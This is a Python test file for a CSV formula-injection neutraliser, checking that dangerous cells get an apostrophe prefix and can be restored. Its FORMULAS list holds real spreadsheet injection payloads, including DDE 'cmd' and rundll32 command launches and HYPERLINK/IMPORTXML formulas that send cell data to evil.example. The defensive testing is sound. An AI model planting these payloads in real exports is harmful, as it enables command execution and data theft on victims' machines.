from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bertsmith.data.csv_safety import is_formula, neutralise_formula, restore_formula

FORMULAS = [
    "=1+1",
    "=",
    "==1",
    "= 1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "=WEBSERVICE(A1)",
    "=SUM(A1:A9)",
    "=DDE('a','b','c')",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=A1",
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+A1",
    "+cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "++1",
    "+-1",
    "+",
    "+44 20 7946 0958",
    "+1 (555) 0100",
    "+good",
    "-1+1",
    "-1-1",
    "-A1",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!D2",
    "--5",
    "-",
    "---",
    "- a list item",
    "-good",
    "-inf",
    "-1e",
    "-1.2.3",
    "-0x10",
    "-1,2,3",
    "-5%+1",
    "-٣+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "@user thanks",
    "@import",
    "\t=1+1",
    "\thello",
    "\r=1+1",
    "\rhello",
    "\n=1+1",
    "\nhello",
    " =1+1",
    "   @A1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1"',
    "'=1+1",
    "' =1+1",
    "\" '=1+1",
    " \t hello",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "−1+1",
    "-1\n+1",
    "=1\x00",
]

HARMLESS = [
    "",
    " ",
    "good",
    "1",
    "0",
    "-0",
    "-0.5",
    "+44",
    "+0.25",
    "1e-5",
    "-1e-5",
    "+1E+10",
    "-.5",
    "-5.",
    "-1,234.5",
    "-1,234,567",
    "-0,5",
    "-3%",
    " -0.5",
    "-0.5 ",
    "'-0.5",
    "1+1",
    "a=b",
    "a-b",
    "user@example.com",
    "'quoted'",
    '"quoted"',
    "'",
    "#REF!",
    "NA",
    "null",
    "None",
    "nan",
    "— dash",
    "*bold*",
    "/path",
    "😀 =1",
    "(=1)",
]


def test_there_are_at_least_sixty_formulas():
    assert len(set(FORMULAS)) >= 60


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_gets_an_apostrophe(cell):
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_a_number_or_plain_text_stays_as_it_is(cell):
    assert neutralise_formula(cell) == cell


@pytest.mark.parametrize("cell", FORMULAS + HARMLESS)
def test_the_apostrophe_survives_csv_and_can_be_taken_off_again(cell):
    stream = io.StringIO()
    csv.writer(stream).writerow([neutralise_formula(cell), "x"])
    [[read, _]] = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert restore_formula(read) == cell


@given(st.text(alphabet="=+-@'\" \t\r\n15.,e%aあ＝", max_size=8))
def test_any_text_can_be_restored(cell):
    assert restore_formula(neutralise_formula(cell)) == cell


@given(st.text(alphabet="=+-@'\" \t\r\n15.,e%a", max_size=8))
def test_what_was_neutralised_begins_with_an_apostrophe_or_was_no_formula(cell):
    assert neutralise_formula(cell).startswith("'") or not is_formula(cell)


def test_a_long_cell_of_digits_is_judged_at_once():
    assert is_formula("-" + "1" * 200_000 + "x")
